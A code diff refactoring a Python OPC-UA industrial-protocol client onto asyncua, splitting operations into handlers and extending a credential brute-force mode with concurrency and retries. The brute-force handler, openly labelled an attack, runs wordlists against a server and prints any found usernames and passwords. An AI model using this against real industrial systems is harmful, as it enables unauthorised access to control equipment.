+async def _do_read_node(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Read single node"""
+    print(f"\nReading node {args.read_node}...")
+    node = await client.read_node(args.read_node)
+    if node:
+        print("Node Information:")
+        print(f"  Node ID: {node.node_id}")
+        print(f"  Browse Name: {node.browse_name}")
+        print(f"  Display Name: {node.display_name}")
+        print(f"  Node Class: {node.node_class}")
+        if node.data_type:
+            print(f"  Data Type: {node.data_type}")
+        if node.value is not None:
+            print(f"  Value: {format_value(node.value)}")
+        if node.access_level is not None:
+            print(f"  Access Level: {node.access_level}")
+        if node.user_access_level is not None:
+            print(f"  User Access Level: {node.user_access_level}")
+    else:
+        print("Failed to read node")
+
+async def _do_read_nodes(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Read multiple nodes"""
+    node_ids = args.read_nodes
+    print(f"\nReading {len(node_ids)} nodes...")
+    nodes = await client.read_nodes(node_ids, args.read_batch_size)
+    if nodes:
+        print("Nodes Information:")
+        out = []
+        for i, node in enumerate(nodes):
+            if node:
+                out.append(f"  Node {i+1}:\n")
+                out.append(format_node(node, "    "))
+            else:
+                out.append(f"  Node {i+1}: Failed to read\n")
+            if (i + 1) % OUTPUT_CHUNK_NODES == 0:
+                sys.stdout.write("".join(out))
+                out.clear()
+        sys.stdout.write("".join(out))
+        sys.stdout.flush()
+    else:
+        print("Failed to read nodes")
+
+async def _do_write_node(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Write single node"""
+    node_id, value = args.write_node
+    print(f"\nWriting value {value} to node {node_id}...")
+    success = await client.write_node(node_id, value)
+    print(f"Write {'successful' if success else 'failed'}")
+
+async def _do_write_nodes(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Write multiple nodes"""
+    node_ids = [node_id for node_id, _ in args.write_nodes]
+    values = [value for _, value in args.write_nodes]
+    
+    print(f"\nWriting values to {len(node_ids)} nodes...")
+    results = await client.write_nodes(node_ids, values, args.write_batch_size)
+    success_count = sum(results)
+    print(f"Write successful for {success_count}/{len(node_ids)} nodes")
+
+async def _do_call_method(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Call method"""
+    object_node_id, method_node_id, arguments = args.call_method
+    
+    print(f"\nCalling method {method_node_id} on object {object_node_id}...")
+    result = await client.call_method(object_node_id, method_node_id, arguments)
+    if result is not None:
+        print(f"Method call successful, result: {result}")
+    else:
+        print("Method call failed")
+
+async def _do_create_subscription(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Create subscription"""
+    subscription_name, node_ids = args.create_subscription
+    
+    print(f"\nCreating subscription '{subscription_name}'...")
+    deadband_type = ua.DeadbandType[args.deadband_type.capitalize()]
+    result = await client.create_subscription(subscription_name, node_ids,
+                                              deadband=args.deadband,
+                                              deadband_type=deadband_type)
+    if result:
+        print(f"Subscription '{result}' created successfully")
+        print("Press Ctrl+C to stop monitoring...")
+    
+        # Keep the connection alive for subscription monitoring
+        try:
+            while True:
+                await asyncio.sleep(1)
+        except KeyboardInterrupt:
+            print("\nStopping subscription monitoring...")
+    else:
+        print("Failed to create subscription")
+
+async def _do_delete_subscription(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Delete subscription"""
+    print(f"\nDeleting subscription '{args.delete_subscription}'...")
+    success = await client.delete_subscription(args.delete_subscription)
+    print(f"Subscription deletion {'successful' if success else 'failed'}")
+
+async def _do_brute_force(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Brute force credentials"""
+    print(f"\nStarting brute force attack...")
+    print(f"Password wordlist: {args.password_wordlist}")
+    if args.username_wordlist:
+        print(f"Username wordlist: {args.username_wordlist}")
+    print(f"Delay between attempts: {args.brute_force_delay}s")
+    print(f"Concurrent attempts: {args.brute_force_concurrency}")
+    
+    valid_credentials = await client.brute_force_credentials(
+        password_wordlist_path=args.password_wordlist,
+        username_wordlist_path=args.username_wordlist,
+        delay=args.brute_force_delay,
+        concurrency=args.brute_force_concurrency,
+        retries=args.brute_force_retries
+    )
+    
+    if valid_credentials:
+        print(f"\n🎉 Brute force attack completed!")
+        print(f"Found {len(valid_credentials)} valid credential(s):")
+        for cred in valid_credentials:
+            print(f"  Username: {cred['username']}")
+            print(f"  Password: {cred['password']}")
+            print(f"  Found on attempt: {cred['attempt']}")
+            print()
+    else:
+        print(f"\n❌ No valid credentials found")
+
+def print_usage_examples() -> None:
+    """Print example invocations when no operation is given"""
+    print("\nNo operation specified. Use --help to see available options.")
+    print("\nExample usage:")
+    print("  # Browse from root (default)")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --browse")
+    print("  # Browse from Objects folder")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --browse i=85")
+    print("  # Browse from Types folder")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --browse i=86")
+    print("  # Read a specific node")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --read-node i=84")
+    print("  # Write to a node")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --write-node i=84,123")
+    print("  # Discover servers")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --discover-servers")
+    print("  # Brute force credentials")
+    print("  python opcua_client.py --url opc.tcp://localhost:4840 --password-wordlist passwords.txt")
+
+# Operation flags and their handlers; the flags are mutually exclusive
+ACTIONS = (
+    ('discover_servers', _do_discover_servers),
+    ('get_endpoints', _do_get_endpoints),
+    ('test_connection', _do_test_connection),
+    ('get_server_info', _do_get_server_info),
+    ('browse', _do_browse),
+    ('read_node', _do_read_node),
+    ('read_nodes', _do_read_nodes),
+    ('write_node', _do_write_node),
+    ('write_nodes', _do_write_nodes),
+    ('call_method', _do_call_method),
+    ('create_subscription', _do_create_subscription),
+    ('delete_subscription', _do_delete_subscription),
+    ('password_wordlist', _do_brute_force),
+)
+
+async def main():
+    """Main async function demonstrating OPC-UA client usage"""
+    args = build_parser().parse_args()
     
-    args = parser.parse_args()
+    if not logging.getLogger().handlers:
+        logging.basicConfig(level=getattr(logging, args.log_level.upper()))
     
-    print("Modern OPC-UA Client Demo using python-opcua")
+    print("Modern OPC-UA Client Demo using asyncua")
     print("=" * 50)
     print(f"Server URL: {args.url}")
     print(f"Timeout: {args.timeout}s")
     print(f"Security Policy: {args.security_policy}")
     print(f"Security Mode: {args.security_mode}")
     
-    # Create client
-    client = OPCUAClient(
-        url=args.url,
-        timeout=args.timeout,
-        security_policy=args.security_policy,
-        security_mode=args.security_mode,
-        username=args.username,
-        password=args.password,
-        certificate_path=args.certificate,
-        private_key_path=args.private_key
-    )
+    # Create client. Brute force opens its own sessions, so it only needs
+    # the URL and timeout.
+    if args.password_wordlist:
+        client = OPCUAClient(url=args.url, timeout=args.timeout)
+    else:
+        client = OPCUAClient(
+            url=args.url,
+            timeout=args.timeout,
+            security_policy=args.security_policy,
+            security_mode=args.security_mode,
+            username=args.username,
+            password=args.password,
+            certificate_path=args.certificate,
+            private_key_path=args.private_key,
+            discovery_cache_ttl=0 if args.no_cache else 300,
+            discovery_cache_path=None if args.no_cache else DEFAULT_DISCOVERY_CACHE_PATH
+        )
     
     # Start the client
     if not await client.start():
@@ -768,242 +1786,12 @@ async def main():
         return
     
     try:
-        # Discover servers
-        if args.discover_servers:
-            print(f"\nDiscovering OPC-UA servers...")
-            servers = await client.discover_servers()
-            if servers:
-                print(f"Found {len(servers)} server(s):")
-                for server in servers:
-                    print(f"  Name: {server.name}")
-                    print(f"  URL: {server.url}")
-                    print(f"  Security Policy: {server.security_policy_uri}")
-                    print(f"  Security Mode: {server.security_mode}")
-                    print()
-            else:
-                print("No servers found")
-        
-        # Get endpoints
-        elif args.get_endpoints:
-            print(f"\nGetting server endpoints...")
-            endpoints = await client.get_endpoints()
-            if endpoints:
-                print(f"Found {len(endpoints)} endpoint(s):")
-                for i, endpoint in enumerate(endpoints):
-                    print(f"  Endpoint {i+1}: {endpoint['endpoint_url']}")
-                    print(f"    Security Policy: {endpoint['security_policy_uri']}")
-                    print(f"    Security Mode: {endpoint['security_mode']}")
-                    print()
-            else:
-                print("No endpoints found")
-        
-        # Test connection
-        elif args.test_connection:
-            print(f"\nTesting connection to {args.url}...")
-            success = await client.test_connection()
-            print(f"Connection test {'successful' if success else 'failed'}")
-        
-        # Get server info
-        elif args.get_server_info:
-            print(f"\nGetting server information...")
-            info = await client.get_server_info()
-            if info:
-                print("Server Information:")
-                for key, value in info.items():
-                    print(f"  {key}: {value}")
-            else:
-                print("Failed to get server information")
-        
-        # Browse nodes
-        elif args.browse:
-            start_node = args.browse if args.browse else "i=84"
-            print(f"\nBrowsing nodes starting from {start_node}...")
-            nodes = await client.browse_nodes(start_node, args.max_results)
-            if nodes:
-                print(f"Found {len(nodes)} node(s):")
-                for node in nodes:
-                    print(f"  Node ID: {node.node_id}")
-                    print(f"  Browse Name: {node.browse_name}")
-                    print(f"  Display Name: {node.display_name}")
-                    print(f"  Node Class: {node.node_class}")
-                    if node.data_type:
-                        print(f"  Data Type: {node.data_type}")
-                    if node.value is not None:
-                        print(f"  Value: {node.value}")
-                    print()
-            else:
-                print("No nodes found")
-        
-        # Read single node
-        elif args.read_node:
-            print(f"\nReading node {args.read_node}...")
-            node = await client.read_node(args.read_node)
-            if node:
-                print("Node Information:")
-                print(f"  Node ID: {node.node_id}")
-                print(f"  Browse Name: {node.browse_name}")
-                print(f"  Display Name: {node.display_name}")
-                print(f"  Node Class: {node.node_class}")
-                if node.data_type:
-                    print(f"  Data Type: {node.data_type}")
-                if node.value is not None:
-                    print(f"  Value: {node.value}")
-                if node.access_level is not None:
-                    print(f"  Access Level: {node.access_level}")
-                if node.user_access_level is not None:
-                    print(f"  User Access Level: {node.user_access_level}")
-            else:
-                print("Failed to read node")
-        
-        # Read multiple nodes
-        elif args.read_nodes:
-            node_ids = args.read_nodes.split(',')
-            print(f"\nReading {len(node_ids)} nodes...")
-            nodes = await client.read_nodes(node_ids)
-            if nodes:
-                print("Nodes Information:")
-                for i, node in enumerate(nodes):
-                    if node:
-                        print(f"  Node {i+1}:")
-                        print(f"    Node ID: {node.node_id}")
-                        print(f"    Browse Name: {node.browse_name}")
-                        print(f"    Display Name: {node.display_name}")
-                        print(f"    Node Class: {node.node_class}")
-                        if node.data_type:
-                            print(f"    Data Type: {node.data_type}")
-                        if node.value is not None:
-                            print(f"    Value: {node.value}")
-                        print()
-                    else:
-                        print(f"  Node {i+1}: Failed to read")
-            else:
-                print("Failed to read nodes")
-        
-        # Write single node
-        elif args.write_node:
-            try:
-                node_id, value = args.write_node.split(',', 1)
-                print(f"\nWriting value {value} to node {node_id}...")
-                success = await client.write_node(node_id, value)
-                print(f"Write {'successful' if success else 'failed'}")
-            except ValueError:
-                print("Invalid format. Use: node_id,value")
-        
-        # Write multiple nodes
-        elif args.write_nodes:
-            try:
-                parts = args.write_nodes.split(',')
-                if len(parts) % 2 != 0:
-                    raise ValueError("Must have even number of values")
-                
-                node_ids = parts[::2]
-                values = parts[1::2]
-                
-                print(f"\nWriting values to {len(node_ids)} nodes...")
-                results = await client.write_nodes(node_ids, values)
-                success_count = sum(results)
-                print(f"Write successful for {success_count}/{len(node_ids)} nodes")
-            except ValueError as e:
-                print(f"Invalid format: {e}")
-                print("Use: node_id1,value1,node_id2,value2,...")
-        
-        # Call method
-        elif args.call_method:
-            try:
-                parts = args.call_method.split(',')
-                if len(parts) < 2:
-                    raise ValueError("Must have at least object_node_id and method_node_id")
-                
-                object_node_id = parts[0]
-                method_node_id = parts[1]
-                arguments = parts[2:] if len(parts) > 2 else []
-                
-                print(f"\nCalling method {method_node_id} on object {object_node_id}...")
-                result = await client.call_method(object_node_id, method_node_id, arguments)
-                if result is not None:
-                    print(f"Method call successful, result: {result}")
-                else:
-                    print("Method call failed")
-            except ValueError as e:
-                print(f"Invalid format: {e}")
-                print("Use: object_node_id,method_node_id,arg1,arg2,...")
-        
-        # Create subscription
-        elif args.create_subscription:
-            try:
-                parts = args.create_subscription.split(',')
-                if len(parts) < 2:
-                    raise ValueError("Must have at least subscription name and one node ID")
-                
-                subscription_name = parts[0]
-                node_ids = parts[1:]
-                
-                print(f"\nCreating subscription '{subscription_name}'...")
-                result = await client.create_subscription(subscription_name, node_ids)
-                if result:
-                    print(f"Subscription '{result}' created successfully")
-                    print("Press Ctrl+C to stop monitoring...")
-                    
-                    # Keep the connection alive for subscription monitoring
-                    try:
-                        while True:
-                            await asyncio.sleep(1)
-                    except KeyboardInterrupt:
-                        print("\nStopping subscription monitoring...")
-                else:
-                    print("Failed to create subscription")
-            except ValueError as e:
-                print(f"Invalid format: {e}")
-                print("Use: subscription_name,node_id1,node_id2,...")
-        
-        # Delete subscription
-        elif args.delete_subscription:
-            print(f"\nDeleting subscription '{args.delete_subscription}'...")
-            success = await client.delete_subscription(args.delete_subscription)
-            print(f"Subscription deletion {'successful' if success else 'failed'}")
-        
-        # Brute force credentials
-        elif args.password_wordlist:
-            print(f"\nStarting brute force attack...")
-            print(f"Password wordlist: {args.password_wordlist}")
-            if args.username_wordlist:
-                print(f"Username wordlist: {args.username_wordlist}")
-            print(f"Delay between attempts: {args.brute_force_delay}s")
-            
-            valid_credentials = await client.brute_force_credentials(
-                password_wordlist_path=args.password_wordlist,
-                username_wordlist_path=args.username_wordlist,
-                delay=args.brute_force_delay
-            )
-            
-            if valid_credentials:
-                print(f"\n🎉 Brute force attack completed!")
-                print(f"Found {len(valid_credentials)} valid credential(s):")
-                for cred in valid_credentials:
-                    print(f"  Username: {cred['username']}")
-                    print(f"  Password: {cred['password']}")
-                    print(f"  Found on attempt: {cred['attempt']}")
-                    print()
-            else:
-                print(f"\n❌ No valid credentials found")
-        
+        for attr, action in ACTIONS:
+            if getattr(args, attr):
+                await action(client, args)
+                break
         else:
-            print("\nNo operation specified. Use --help to see available options.")
-            print("\nExample usage:")
-            print("  # Browse from root (default)")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --browse")
-            print("  # Browse from Objects folder")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --browse i=85")
-            print("  # Browse from Types folder")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --browse i=86")
-            print("  # Read a specific node")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --read-node i=84")
-            print("  # Write to a node")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --write-node i=84,123")
-            print("  # Discover servers")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --discover-servers")
-            print("  # Brute force credentials")
-            print("  python opcua_client.py --url opc.tcp://localhost:4840 --password-wordlist passwords.txt")
+            print_usage_examples()
         
         print("\nDemo completed!")
         
@@ -1012,5 +1800,16 @@ async def main():
     finally:
         await client.stop()
 
+def install_event_loop(use_uvloop: bool = True) -> None:
+    """Run asyncio on uvloop when it is installed (POSIX only)"""
+    if not use_uvloop or sys.platform == 'win32':
+        return
+    try:
+        import uvloop
+    except ImportError:
+        return
+    asyncio.set_event_loop_policy(uvloop.EventLoopPolicy())
+
 if __name__ == "__main__":
+    install_event_loop(not build_parser().parse_args().no_uvloop)
     asyncio.run(main()) 
\ No newline at end of file